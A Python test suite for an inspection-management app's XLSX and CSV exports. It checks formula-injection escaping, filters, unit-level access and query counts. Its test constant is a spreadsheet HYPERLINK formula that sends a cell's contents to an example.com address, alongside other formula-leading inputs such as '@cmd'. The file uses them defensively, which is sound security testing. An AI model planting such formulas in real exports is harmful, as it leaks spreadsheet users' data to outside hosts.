"""Every list's export (cases, inspections, findings, plans, documents, analytics, a report's
table): the current filters, formula injection escaped in XLSX and CSV, a fixed number of
queries whatever the number of rows."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from inspect_app.core import clock
from inspect_app.core.tabular import cell, csv_bytes, safe_text, xlsx_bytes
from inspect_app.reports import documents
from tests import factories as f

EVIL = '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _world(db, n: int = 1):
    """Records whose texts all look like formulas, `n` of each list's kind."""
    unit = f.make_unit(name=EVIL)
    lead = f.make_user("lead_inspector", full_name="@SUM(1+1)")
    field = f.make_field(name="+lĩnh vực")
    for _ in range(n):
        inspection = f.make_inspection(
            "monitoring", target_unit=unit, lead=lead, title=EVIL, decision_number="-1/QĐ"
        )
        inspection.fields.append(field)
        finding = f.make_finding(inspection=inspection, description=EVIL, place="\tkho")
        finding.field = field
        case = f.make_case(inspection=inspection, title=EVIL, required_action="\rlàm lại")
        case.findings.append(finding)
        f.make_plan(title=EVIL, issuing_unit=unit)
        f.make_urging_letter(case, clock.today())
    db.session.commit()


def _xlsx_texts(data: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [c for row in sheet.iter_rows(values_only=True) for c in row if isinstance(c, str)]


def _csv_texts(data: bytes) -> list[str]:
    assert data.startswith("\ufeff".encode())
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


LISTS = [
    "/cases/export.{fmt}",
    "/inspections/export.{fmt}",
    "/findings/export.{fmt}",
    "/plans/export.{fmt}",
    "/reports/export.{fmt}",
    "/analytics/export.{fmt}?year_from=2020&year_to=2030",
]


@pytest.mark.parametrize("path", LISTS)
def test_exports_escape_formulas(db, login_as, uploads, path):
    _world(db)
    c = login_as("admin")
    for fmt, texts in (("xlsx", _xlsx_texts), ("csv", _csv_texts)):
        r = c.get(path.format(fmt=fmt))
        assert r.status_code == 200, (path, fmt)
        assert "attachment" in r.headers["Content-Disposition"]
        values = texts(r.data)
        assert len(values) > 1
        bad = [v for v in values if v.startswith(STARTS)]
        assert bad == [], (path, fmt, bad)
        assert any(
            v.startswith("'=") or v.startswith("'+") or v.startswith("'@") for v in values
        ), (
            path,
            fmt,
            values,
        )


@pytest.mark.parametrize("path", LISTS[:5])
def test_exports_take_a_fixed_number_of_queries(db, login_as, uploads, count_queries, path):
    _world(db, 1)
    c = login_as("admin")
    url = path.format(fmt="xlsx")
    c.get(url)
    with count_queries() as one:
        c.get(url)
    _world(db, 6)
    with count_queries() as seven:
        r = c.get(url)
    assert r.status_code == 200
    assert seven() == one(), path


def test_exports_follow_the_lists_filters(db, login_as, uploads):
    _world(db)
    f.make_inspection("planned", title="Kế hoạch khác")
    db.session.commit()
    c = login_as("admin")
    everything = _xlsx_texts(c.get("/inspections/export.xlsx").data)
    planned = _xlsx_texts(c.get("/inspections/export.xlsx?state=planned").data)
    assert "Kế hoạch khác" in everything and "Kế hoạch khác" in planned
    assert "'" + EVIL in everything and "'" + EVIL not in planned


def test_the_list_pages_link_their_exports_with_the_filters(db, login_as, uploads):
    _world(db)
    c = login_as("admin")
    page = c.get("/inspections/?state=monitoring").get_data(as_text=True)
    assert "/inspections/export.xlsx?state=monitoring" in page
    page = c.get("/cases?state=open").get_data(as_text=True)
    assert "/cases/export.csv?state=open" in page
    for path, link in (
        ("/findings", "/findings/export.xlsx"),
        ("/plans", "/plans/export.xlsx"),
        ("/reports", "/reports/export.xlsx"),
    ):
        assert link in c.get(path).get_data(as_text=True), path


def test_a_unit_leader_exports_only_their_units(db, login_as, uploads):
    _world(db)
    outsider = login_as("unit_leader", unit=f.make_unit())
    for path in ("/cases/export.xlsx", "/inspections/export.xlsx", "/reports/export.xlsx"):
        values = _xlsx_texts(outsider.get(path).data)
        assert "'" + EVIL not in values, path


def test_a_reports_case_table_escapes_formulas(app):
    item = SimpleNamespace(
        unit_name=EVIL,
        case_reference="KN-1/1",
        case_title="@cmd",
        conclusion="-5",
        due_date=clock.today(),
        working_days_overdue=3,
        escalation_level=1,
        proposal="+1",
    )
    doc = SimpleNamespace(
        items=[item],
        issuing_body="=THANH TRA",
        number_label="01/BC",
        is_issued=True,
        title="=T",
        figures={},
    )
    with app.app_context():
        values = _csv_texts(documents.export_csv(doc))
        assert [v for v in values if v.startswith(STARTS)] == []
        assert "'" + EVIL in values and "'@cmd" in values
        texts = _xlsx_texts(documents.export_xlsx(doc))
        assert [v for v in texts if v.startswith(STARTS)] == []
        assert "'=THANH TRA" in texts


def test_cells_keep_numbers_and_dates_and_escape_text():
    today = clock.today()
    assert cell(-5) == -5 and cell(today) == today and cell(None) is None
    assert cell("-5") == "'-5" and cell("\tx") == "'\tx" and cell("a=b") == "a=b"
    assert safe_text("@x") == "'@x"
    assert _csv_texts(csv_bytes(["=h"], [["+1", 2]])) == ["'=h", "'+1", "2"]
    assert _xlsx_texts(xlsx_bytes("t", ["h"], [["=1+1"]])) == ["h", "'=1+1"]


def test_the_statistics_annex_escapes_formulas(app, db):
    """The annex workbook of the periodic report: its texts (the issuing body from settings,
    the tables' titles, headers and row labels) written as text, never as formulas."""
    from inspect_app.statistics import operations as statistics
    from inspect_app.statistics import xlsx as annex

    with clock.frozen(clock.today().replace(year=2026, month=4, day=20)):
        snap = statistics.live_snapshot(*statistics.resolve("2026-Q1"))
    table = snap["tables"][0]
    table["title"] = EVIL
    table["rows"][0]["label"] = "+ các sở"
    table["row_header"] = "@cột"
    book = load_workbook(io.BytesIO(annex.workbook(snap, "=THANH TRA", "-1/BC")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert [v for v in values if v.startswith(STARTS)] == []
    assert "'" + EVIL in values and "'=THANH TRA" in values and "'+ các sở" in values
    assert "'@cột" in values


@pytest.mark.parametrize(
    ("path", "excluding"),
    [
        ("/cases/export.{fmt}", "state=withdrawn"),
        ("/inspections/export.{fmt}", "state=planned"),
        ("/findings/export.{fmt}", "q=zzzz"),
        ("/plans/export.{fmt}", "year=2001"),
        ("/reports/export.{fmt}", "year=1901"),
        ("/analytics/export.{fmt}?year_from=2020&year_to=2030", "year_from=2001&year_to=2002"),
    ],
)
def test_every_export_follows_its_lists_filters(db, login_as, uploads, path, excluding):
    """What is on screen is what is exported: a filter that leaves out the world's records
    leaves them out of the XLSX and the CSV alike."""
    _world(db)
    c = login_as("admin")
    for fmt, texts in (("xlsx", _xlsx_texts), ("csv", _csv_texts)):
        url = path.format(fmt=fmt)
        everything = texts(c.get(url).data)
        base = url.split("?")[0] + "?"
        narrowed = texts(c.get(base + excluding).data)
        assert "'" + EVIL in everything, (url, everything)
        assert "'" + EVIL not in narrowed, (base + excluding, narrowed)
